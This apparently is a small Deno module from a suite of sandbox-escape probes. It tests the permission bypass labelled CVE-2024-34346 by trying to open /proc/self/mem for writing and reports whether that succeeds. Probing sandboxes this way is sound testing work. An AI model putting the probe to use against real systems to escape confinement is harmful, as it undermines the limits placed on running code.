// Writes its own memory through /proc/self/mem (CVE-2024-34346).
import type { Target } from "../attack.ts";

export const layer = "deno";

export default async function (_target: Target): Promise<string | null> {
  using file = await Deno.open("/proc/self/mem", { write: true });
  return file ? "opened for writing" : null;
}
